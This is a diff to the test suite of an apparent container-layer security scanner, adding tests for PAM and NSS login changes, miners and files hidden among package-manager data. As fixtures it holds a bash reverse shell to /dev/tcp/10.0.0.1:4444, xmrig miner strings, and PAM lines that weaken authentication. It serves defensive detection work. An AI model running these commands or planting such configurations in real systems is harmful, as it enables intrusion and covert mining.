@@ -178,7 +178,7 @@ HITS = {
 BASE["opt/empty"] = ({"type": b"5", "mode": 0o755, "mtime": BASE_TIME}, b"")
 # Of these there are tests of their own: signs below, images in test_diff, test_layer_forms and
 # test_layer_toc.
-ELSEWHERE = {"layer.unpacked-times", "layer.table-of-contents", "layer.web-shell", "layer.reverse-shell", "layer.miner", "layer.tunnel",
+ELSEWHERE = {"layer.authentication-package", "layer.unpacked-times", "layer.table-of-contents", "layer.web-shell", "layer.reverse-shell", "layer.miner", "layer.tunnel",
              "layer.attack-tool", "layer.escape-tool", "layer.rootkit", "layer.hidden-payload",
              "layer.downloader", "layer.image-digest", "layer.image-incomplete",
              "layer.other-image", "layer.base-does-not-fit", "layer.odd-entry",
@@ -542,7 +542,31 @@ class Benign(Layers):
             layer = {f"opt/jdk/bin/{i}": (old, b"%d" % i) for i in range(n)}
             found = [r for r, _ in self.of_layer(self.analyze(BASE, layer))]
             self.assertEqual([r for r in found if r != "layer.new-executable"], [rule] * count)
-            self.assertEqual(found.count("layer.new-executable"), n)
+
+    def test_programs_that_came_with_one_folder_are_told_once(self):
+        tree = {f"opt/jdk/{f}/{i:02}": (EXE, b"%d" % i) for i in range(30) for f in ("bin",)}
+        tree.update({f"opt/jdk/lib/l{i}.so": (EXE, b"so%d" % i) for i in range(9)})
+        findings = self.analyze(BASE, dict(tree, **{"usr/bin/alone": (EXE, b"alone")}))
+        self.assertEqual(self.of_layer(findings), {
+            ("layer.new-executable", "opt/jdk"), ("layer.library", "opt/jdk"),
+            ("layer.new-executable", "usr/bin/alone")})
+        told = [f for f in findings if f["subject"] == "/opt/jdk" and
+                f["rule"] == "layer.new-executable"][0]
+        self.assertEqual(told["arguments"]["files"], "30")
+        self.assertTrue(told["arguments"]["names"].startswith("bin/00, bin/01, "))
+        self.assertTrue(told["arguments"]["names"].endswith(" and 10 more"))
+        self.assertTrue(told["spans"][15]["item"].endswith("opt/jdk/bin/15"))
+
+    def test_a_few_programs_are_told_each(self):
+        layer = {f"opt/kit/{i}": (EXE, b"%d" % i) for i in range(7)}
+        self.assertEqual(self.of_layer(self.analyze(BASE, layer)),
+                         {("layer.new-executable", p) for p in layer})
+
+    def test_a_miner_among_many_programs_is_told(self):
+        layer = {f"opt/kit/{i}": (EXE, b"%d" % i) for i in range(20)}
+        layer["opt/kit/7"] = (EXE, b"stratum+tcp://pool:1 xmrig donate-level rx/0 randomx")
+        self.assertEqual(self.of_layer(self.analyze(BASE, layer)),
+                         {("layer.new-executable", "opt/kit"), ("layer.miner", "opt/kit/7")})
 
     def test_the_second_of_the_analysis_is_no_future(self):
         now = 1795478400  # 2026-11-24T00:00:00Z, as --at says
@@ -561,6 +585,63 @@ class Benign(Layers):
         layer["etc/php/mods-available/calendar.ini"] = "auto_prepend_file=/tmp/x\n"
         self.assertIn(("layer.interpreter-start", "etc/php/conf.d/20-calendar.ini"),
                       self.of_layer(self.analyze(BASE, layer)))
+
+    def log_in(self, files, **more):
+        """A layer in which a package with modules of PAM and NSS was installed."""
+        base = dict(BASE, **{
+            "etc/pam.d/common-password": "# managed\npassword\t[success=1 default=ignore]\tpam_unix.so "
+            "obscure\npassword requisite pam_deny.so\npassword required pam_permit.so\n",
+            "etc/nsswitch.conf": "passwd: files\nhosts: files dns\n"})
+        layer = self.install("libs", {"lib/security/pam_quality.so": "m",
+                                      "lib/libnss_mine.so.2": "n"}, **more)
+        layer.update(files)
+        return self.of_layer(self.analyze(base, layer)) - {("layer.package-database", "dpkg")}
+
+    UNIX = "password [success=2 default=ignore] pam_unix.so use_authtok\n"
+    REST = "password requisite pam_deny.so\npassword required pam_permit.so\n"
+    PAM = "etc/pam.d/common-password"
+
+    def test_a_module_that_its_package_enters_into_log_in(self):
+        quality = "password requisite pam_quality.so retry=3\n"
+        for files in ({self.PAM: quality + self.UNIX + self.REST},
+                      {"etc/nsswitch.conf": "passwd: files\nhosts: files mine [NOTFOUND=return] dns\n"}):
+            self.assertEqual(self.log_in(files),
+                             {("layer.authentication-package", p) for p in files})
+
+    def test_what_else_changes_in_log_in_is_told(self):
+        quality = "password requisite pam_quality.so retry=3\n"
+        for pam in (quality + self.UNIX + self.REST + "auth sufficient pam_evil.so\n",
+                    quality + self.UNIX + self.REST.replace("required", "sufficient"),
+                    quality + self.UNIX + "password required pam_permit.so\n",
+                    quality + self.UNIX + self.REST + "@include evil\n",
+                    self.UNIX + self.REST):
+            self.assertEqual(self.log_in({self.PAM: pam}),
+                             {("layer.authentication-module", self.PAM)}, pam)
+        for nss in ("passwd: files evil\nhosts: files mine dns\n", "hosts: files mine dns\n",
+                    "passwd: mine\nhosts: files dns\n"):
+            self.assertEqual(self.log_in({"etc/nsswitch.conf": nss}),
+                             {("layer.authentication-module", "etc/nsswitch.conf")}, nss)
+
+    def test_a_module_that_is_not_as_its_package_says(self):
+        found = self.log_in({self.PAM: "password requisite pam_quality.so\n" + self.UNIX + self.REST,
+                             "lib/security/pam_quality.so": "trojan"})
+        self.assertEqual(found, {("layer.authentication-module", self.PAM),
+                                 ("layer.authentication-module", "lib/security/pam_quality.so")})
+
+    def test_what_hides_between_the_files_of_a_package_manager(self):
+        layer = self.install("last", {"usr/share/x": "x"})
+        layer["var/cache/apt/archives/run"] = (EXE, b"run")
+        layer["var/lib/apt/lists/list"] = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
+        layer["var/lib/apt/lists/honest"] = "Package: x\n"
+        layer["srv/node_modules/.package-lock.json"] = "{}\n"
+        layer["srv/node_modules/evil/package.json"] = '{"name": "evil", "version": "1.0.0"}'
+        layer["srv/node_modules/evil/index.js"] = \
+            '"stratum+tcp://pool:1 xmrig donate-level rx/0 randomx"'
+        found = self.of_layer(self.analyze(BASE, layer))
+        self.assertEqual(found - {("layer.package-database", s) for s in ("dpkg", "npm")}, {
+            ("layer.executable-in-var", "var/cache/apt/archives/run"),
+            ("layer.reverse-shell", "var/lib/apt/lists/list"),
+            ("layer.miner", "srv/node_modules/evil/index.js")})
 
     def test_keys_of_the_host_that_sshds_package_makes(self):
         key = {"etc/ssh/ssh_host_ed25519_key.pub": "ssh-ed25519 AAAA root@build\n"}
